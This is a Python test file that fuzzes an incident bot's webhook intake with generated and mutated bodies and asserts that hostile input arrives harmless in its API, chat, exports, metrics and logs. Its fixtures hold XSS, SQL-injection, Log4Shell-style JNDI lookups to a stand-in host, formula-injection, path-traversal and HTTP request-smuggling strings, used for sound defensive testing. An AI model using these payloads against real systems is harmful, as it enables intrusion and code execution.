"""Hostile input through real sockets: what is no delivery gets a reason, and what is one arrives harmless in every view."""

from __future__ import annotations

import asyncio
import gzip
import json
import random
import re
import socket
import sqlite3
from collections import Counter
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from bot.intake.sources import discover
from tests.processes import EXAMPLE_CATALOG, Muster, eventually, refused_start, running

BODIES = 2_000
SEED = 7
AT_ONCE = 24

# --- 2,000 bodies -----------------------------------------------------------------------------------------------------

SOURCES = discover()
NASTY = (
    "<!channel> <!here> <@U0123> <!subteam^S1>",
    "@everyone @here <@&81384788765712384>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(document.cookie)",
    "safe\u202egnp.exe\u202c \u2066isolated\u2069 \u200fmarks\u200e",
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x9b31m \x08\x08\x7f",
    "line\r\n\r\nHTTP/1.1 200 OK\u2028separator\u2029\x85\x0b\x0c",
    "\x00null\x00",
    "[click](javascript:alert(1)) **bold** `code` | table | # heading ![x](https://evil.example/x.png)",
    "```\n> quote\n```",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n <%= 7*7 %> #{7*7}",
    "'; DROP TABLE alerts; -- \\' OR 1=1",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "\U000e0041\U000e0042 tags \ufeff\u00ad\u2060\u180e\ufff9",
    "Z̷̢͔͎̍a̶͉̿l̴̤̈g̸̡͑o̵ " * 20,
    "\u0e49" * 300,
    "👩‍👩‍👧‍👦" * 50,
    "ﷺ" * 60,
    "a" * 100_000,
    "null",
    "INC-1",
    "muster",
    "lobby",
    "dm-robin",
    "-",
)
KEYS = (
    "name",
    "at",
    "status",
    "severity",
    "service",
    "labels",
    "links",
    "dedup_key",
    "alerts",
    "class",
    "host",
    "summary",
)

_text = st.text(max_size=40) | st.sampled_from(NASTY)
_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | _text,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(KEYS) | st.text(max_size=8), inner, max_size=5)
    ),
    max_leaves=12,
)
_alert = st.fixed_dictionaries({"name": _json}, optional=dict.fromkeys(KEYS[1:], _json))
_bodies = st.tuples(
    st.sampled_from(sorted(SOURCES)),
    _alert.map(lambda value: json.dumps(value).encode())
    | st.binary(max_size=200)
    | _text.map(lambda text: text.encode("utf-8", "surrogatepass"))
    | _json.map(lambda value: json.dumps(value).encode())
    | _alert.map(lambda value: json.dumps(value).encode())
    | st.fixed_dictionaries(
        {"alerts": st.lists(st.fixed_dictionaries({"labels": _json, "status": _json}), max_size=3)}
    ).map(lambda value: json.dumps(value).encode()),
    st.sampled_from(["", "", "", "", "", "", "", "", "gzip", "deflate", "identity", "br"]),
    st.sampled_from(["", "", "push", "deployment_status", "ping"]),
)

Post = tuple[str, bytes, dict[str, str]]


def generated(count: int) -> list[Post]:
    """What Hypothesis makes up: the same every time."""
    found: list[Post] = []

    @settings(
        max_examples=count,
        derandomize=True,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(_bodies)
    def collect(made: tuple[str, bytes, str, str]) -> None:
        source, body, encoding, event = made
        headers = {"Content-Encoding": encoding} if encoding else {}
        found.append((source, body, headers | ({"X-GitHub-Event": event} if event else {})))

    collect()
    return found[:count]


def corpus(rng: random.Random) -> Iterator[Post]:
    """What the tools really send, broken off, bitten into, poisoned, packed and mislabelled."""
    examples = [(source, example) for source in SOURCES.values() for example in source.examples]
    while True:
        source, example = rng.choice(examples)
        name, body, headers = source.name, example.body, dict(example.headers)
        match rng.randrange(8):
            case 0:
                body = body[: rng.randrange(len(body))]
            case 1:
                place = rng.randrange(len(body))
                body = body[:place] + rng.randbytes(rng.randrange(1, 9)) + body[place + rng.randrange(9) :]
            case 2:
                body = json.dumps(poisoned(rng, json.loads(body))).encode()
            case 3:
                body = rng.choice([b"[", b'{"a":', b'[{"labels":', b'{"alerts":[']) * rng.randrange(1, 30_000)
            case 4:
                packed = gzip.compress(body)
                body = packed[: rng.randrange(len(packed))] if rng.random() < 0.7 else packed + b"x"
                headers["Content-Encoding"] = rng.choice(["gzip", "deflate", "br", "gzip, deflate"])
            case 5:
                body = gzip.compress(b" " * rng.choice([2**20 - 1, 2**20 + 1, 2**23]))
                headers["Content-Encoding"] = "gzip"
            case 6:
                name = rng.choice(["nobody", "generic%00", "..%2f..%2fetc", "GENERIC", "x" * 300, "%F0%9F%92%A9"])
            case _:
                headers["Content-Type"] = rng.choice(
                    ["application/x-www-form-urlencoded", "text/plain", "nonsense", ""]
                )
                headers["Idempotency-Key"] = rng.choice(["k" * 5000, "1", "'"])
        yield name, body, headers


def poisoned(rng: random.Random, value: Any) -> Any:
    """The payload with something nasty in one place of it."""
    if isinstance(value, dict) and value and rng.random() < 0.85:
        key = rng.choice(sorted(value))
        return value | {key: poisoned(rng, value[key])}
    if isinstance(value, list) and value and rng.random() < 0.85:
        return [poisoned(rng, value[0]), *value[1:]]
    return rng.choice([None, True, 0, -1, 2**70, 1e300, float("nan"), float("inf"), [], {}, [[None]], "\ud800", *NASTY])


async def test_two_thousand_bodies_get_a_2xx_or_a_reason_and_the_journal_stays_whole(tmp_path: Path) -> None:
    made_up = generated(BODIES // 2)
    rest = corpus(random.Random(SEED))
    posts = made_up + [next(rest) for _ in range(BODIES - len(made_up))]
    statuses: Counter[int] = Counter()
    kept: set[int] = set()
    async with running(tmp_path) as muster:
        waiting = iter(posts)

        async def sender() -> None:
            for name, body, headers in waiting:
                answer = await muster.webhook(name, body, headers)
                shown = (name, body[:300], headers, answer)
                statuses[answer.status] += 1
                assert answer.status < 500, shown
                if answer.ok:
                    kept.add(answer.body["delivery"])
                else:
                    assert answer.headers["content-type"].startswith("application/problem+json"), shown
                    assert answer.body["detail"], shown
                    assert answer.body["status"] == answer.status, shown

        before = await muster.webhook("generic", {"name": "Before"})
        await asyncio.gather(*(sender() for _ in range(AT_ONCE)))
        await asyncio.to_thread(break_off, muster.address)
        after = await muster.webhook("generic", {"name": "After"})
        assert statuses.total() == BODIES
        assert {202, 400, 404, 413, 415, 422} <= set(statuses), statuses
        await muster.settled()
        kept |= {before.body["delivery"], after.body["delivery"]}
        names = {alert["name"] for alert in await muster.items("/api/v1/alerts", limit=200)}
        assert {"Before", "After"} <= names
        rejected = await muster.items("/api/v1/deliveries", state="rejected", limit=200)
        assert rejected
        assert all(delivery["reason"] for delivery in rejected)
        assert (await muster.get("/readyz"))["status"] == "ready"
        failures = re.findall(r"^muster_failures_total\{.*\} (\S+)$", await muster.get("/metrics"), re.MULTILINE)
        assert sum(map(float, failures)) == 0
    with closing(sqlite3.connect(muster.journal)) as journal:
        assert journal.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        found = {row[0] for row in journal.execute("SELECT id FROM deliveries WHERE state = 'accepted'")}
    assert kept == found
    assert not [line for line in muster.said() if line.get("level") in {"raw", "error", "critical"}]


def break_off(address: str) -> None:
    """Requests that promise more than they send, or never end their head."""
    host, port = address.removeprefix("http://").split(":")
    for words in (
        b"POST /webhooks/generic HTTP/1.1\r\nHost: x\r\nContent-Length: 500\r\n\r\n{",
        b"POST /webhooks/generic HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nff\r\n{",
        b"POST /webhooks/generic HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        b"POST /webhooks/generic HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n{}",
        b"POST /webhooks/generic HTTP/9.9\r\n\r\n",
        b"POST /webhooks/gen",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"\r\n\r\n\r\n",
        b"GET " + b"/" * 100_000 + b" HTTP/1.1\r\n\r\n",
        b"",
    ):
        with closing(socket.create_connection((host, int(port)), 10)) as connection:
            connection.sendall(words)
            connection.shutdown(socket.SHUT_WR)
            connection.settimeout(10)
            answer = b""
            try:
                while chunk := connection.recv(65536):
                    answer += chunk
            except ConnectionError:
                pass
            assert not re.match(rb"HTTP/1\.\d 5", answer), (words[:80], answer[:200])


# --- hostile, but valid -----------------------------------------------------------------------------------------------

# C0 and C1 but tab and newline, bidirectional controls, invisible and tag characters, lone surrogates.
HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb"
    "\U000e0000-\U000e007f\ud800-\udfff]"
)
LONGEST = 110_000  # characters of one text in an answer
ADDRESSES = {"url", "links", "link"}
# Of texts that must never be a metric's label.
MARKS = ("alert(1)", "everyone", "channel>", "passwd", "jndi", "DROP TABLE")


def texts(value: Any, key: str = "") -> Iterator[tuple[str, str]]:
    """Every text in a JSON value, with the key under which it stands."""
    match value:
        case str():
            yield key, value
        case list():
            for item in value:
                yield from texts(item, key)
        case dict():
            for name, item in value.items():
                yield "key", name
                yield from texts(item, name)


def check_json(where: str, value: Any) -> None:
    for key, text in texts(value):
        assert not HIDDEN.search(text), (where, key, text[:200])
        assert len(text) <= LONGEST, (where, key, len(text))
        if key in ADDRESSES:
            assert text == "" or text.startswith(("https://", "http://")), (where, key, text[:200])


def hostile_alerts() -> Iterator[dict[str, Any]]:
    for number, nasty in enumerate(NASTY):
        text = nasty[:20_000]  # the body as a whole has a limit, too
        yield {
            "name": text,
            "class": text,
            "severity": "critical",
            "service": text,
            "host": text,
            "location": f"{text} {number}",
            "environment": text,
            "summary": text,
            "labels": {text: text, "label": text},
            "links": [
                text,
                f"https://example.org/{text}",
                "javascript:alert(1)",
                "data:text/html,x",
                "file:///etc/passwd",
            ],
            "dedup_key": f"{number} {text}",
        }
    times = (
        "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00Z",
        1e300,
        -1e300,
        2**63,
        -1,
        "2026-01-05T10:00:00+23:59",
        1e18,
    )
    for number, at in enumerate(times):
        yield {"name": f"Moment{number}", "severity": "critical", "service": f"clock-{number}", "at": at}
    yield {"name": "T" * 1_000_000, "severity": "critical", "service": "long"}
    yield {"name": "Long", "severity": "critical", "service": "long", "summary": "<b>" * 300_000}
    yield {"name": "Labels", "severity": "critical", "labels": {f"label-{n}": "v" * 50 for n in range(10_000)}}


RAW = (  # valid or not is for the source to say; a text that no other program could read must not get through
    b'{"name": "surrogate \\ud800 alone", "severity": "critical"}',
    b'{"name": "pair \\ud83d\\ude00", "severity": "critical"}',
    b'{"name": "nul \\u0000 escaped", "severity": "critical"}',
    b'{"name": "not a number", "at": NaN}',
    b'{"name": "too large", "at": 1e999}',
    b'{"name": "twice", "name": "second"}',
    b'\xef\xbb\xbf{"name": "marked"}',
    b'{"name": "overlong \xc0\xaf"}',
)


@pytest.mark.timeout(180)
async def test_what_is_hostile_but_valid_arrives_harmless_in_every_view(tmp_path: Path) -> None:
    async with running(tmp_path, catalog=EXAMPLE_CATALOG) as muster:
        series = await metric_names(muster)
        for body in hostile_alerts():
            answer = await muster.webhook("generic", body)
            assert answer.ok or answer.status == 422, answer
        for raw in RAW:
            assert (await muster.webhook("generic", raw)).status in {202, 400, 422}
        for text in (nasty[:20_000] for nasty in NASTY):
            labels = {"alertname": text, "app": text, "instance": text, "severity": "critical", text: text}
            alert = {"status": "firing", "labels": labels, "annotations": {"summary": text, "runbook_url": text}}
            body = {"version": "4", "groupKey": text, "alerts": [alert | {"generatorURL": text, "fingerprint": text}]}
            answer = await muster.webhook("alertmanager", body)
            assert answer.ok or answer.status == 422, answer
            change = {"service": text, "kind": "deploy", "title": text, "revision": text, "url": text}
            answer = await muster.webhook("change", change | {"author": {"name": text, "email": text, "login": text}})
            assert answer.ok or answer.status == 422, answer
        await muster.settled()
        incidents = await muster.incidents(limit=200)
        assert len(incidents) > 10
        await speak_hostile(muster, incidents[0]["rooms"]["console"])
        await muster.settled()

        for path in ("session", "rooms", "incidents", "alerts", "changes", "deliveries", "stats", "lanes", "graph"):
            answer = await muster.request("GET", f"/api/v1/{path}")
            assert answer.status == 200, answer
            assert answer.headers["content-type"].startswith("application/json")
            assert answer.headers["x-content-type-options"] == "nosniff"
            check_json(path, await everything(muster, f"/api/v1/{path}", answer.body))
        for incident in incidents:
            room = incident["rooms"]["console"]
            assert re.fullmatch(r"[a-z0-9][a-z0-9_-]{0,79}", room), room
            said = await muster.messages(room)
            assert sum(message["view"] is not None and message["view"]["view"] == "card" for message in said) == 1
            check_json(room, said)
            for part in ("alerts", "timeline", "evidence", "lanes", "graph"):
                check_json(part, await muster.get(f"/api/v1/incidents/{incident['id']}/{part}"))
        for incident in incidents[:12]:
            for verb in ("show", "alerts all", "why", "changes", "owner --all"):
                answer = await muster.say("lobby", "robin", f"/incident {verb} {incident['id']}")
                assert answer.status == 201, answer
                check_json(verb, answer.body)

        page = await muster.request("GET", "/")
        assert "default-src 'self'" in page.headers["content-security-policy"]
        assert "'unsafe-inline'" not in page.headers["content-security-policy"]
        assert "alert(1)" not in page.body
        metrics = await muster.get("/metrics")
        assert not [mark for mark in MARKS if mark in metrics]
        assert await metric_names(muster) - series <= allowed_growth(await metric_names(muster)), (
            "labels of outside's making"
        )

        for incident in incidents:
            reply = await muster.command(incident["rooms"]["console"], "robin", "retro")
            check_json("retro", reply)
            check_markdown((await muster.command(incident["rooms"]["console"], "robin", "retro export md"))["output"])
    for incident in incidents[:5]:
        code, written = await asyncio.to_thread(refused_start, tmp_path, "export", incident["id"], "--format", "md")
        assert code == 0, written
        check_markdown(written)
    check_log(muster)


async def everything(muster: Muster, path: str, first: Any) -> Any:
    return await muster.items(path, limit=200) if isinstance(first, dict) and "items" in first else first


async def metric_names(muster: Muster) -> set[str]:
    """The series, without their values and buckets."""
    lines = (await muster.get("/metrics")).splitlines()
    return {line.rpartition(" ")[0] for line in lines if not line.startswith("#") and "_bucket" not in line}


def allowed_growth(series: set[str]) -> set[str]:
    """Series whose every label is one of our own words."""
    return {
        name for name in series if all(re.fullmatch(r"[a-zA-Z0-9_ .-]{0,40}", v) for v in re.findall(r'="(.*?)"', name))
    }


async def speak_hostile(muster: Muster, room: str) -> None:
    """People can be hostile too, or paste what is."""
    for text in NASTY:
        for said in (
            text[:3000],
            f"/incident note {text[:3000]}",
            f"/incident rename {text[:3000]}",
            f"/incident {text[:300]}",
        ):
            answer = await muster.say(room, "robin", said)
            assert answer.status in {201, 422}, (said[:100], answer)
            check_json("reply", answer.body)
        answer = await muster.say(room, text, "hello")
        assert answer.status in {201, 413, 422}, answer
        answer = await muster.say("lobby", "robin", f"/incident declare {text[:3000]}")
        assert answer.status == 201, answer
        check_json("reply", answer.body)
        query = {"text": f"/incident {text[:300]}", "room": room, "as": "robin"}
        answer = await muster.request("GET", "/api/v1/complete", params=query)
        assert answer.status in {200, 422}, answer
        check_json("complete", answer.body)

    async def said_all() -> bool:
        return (await muster.get("/readyz"))["outbox"]["pending"] == 0

    await eventually(said_all, "everything is said")


def check_markdown(text: str) -> None:
    """No tag, mention, foreign link or picture is formed; zero-width spaces are ours, to keep mentions apart."""
    outside_code = re.sub(r"(?ms)^(`{3,})text$.*?^\1$", "", text)
    assert not re.search(r"(?<!\\)<[a-zA-Z!/@]", outside_code)
    assert not re.search(r"@(everyone|here)", outside_code)
    assert not re.search(r"(?i)(?<!\\)\]\((?!https?://)", outside_code)
    assert not re.search(r"(?<!\\)!\[", outside_code)
    found = HIDDEN.search(text.replace("\u200b", ""))
    assert not found, (found, text[max(0, found.start() - 80) : found.end() + 80])


def check_log(muster: Muster) -> None:
    """One JSON object a line, no control character, no payload."""
    raw = muster.log.read_bytes()
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", raw)
    records = muster.said()
    assert not [record for record in records if record.get("level") in {"raw", "error", "critical"}]
    for record in records:
        assert len(json.dumps(record)) < 5_000, record
        assert not [text for _, text in texts(record) if "onerror" in text or "DROP TABLE" in text], record
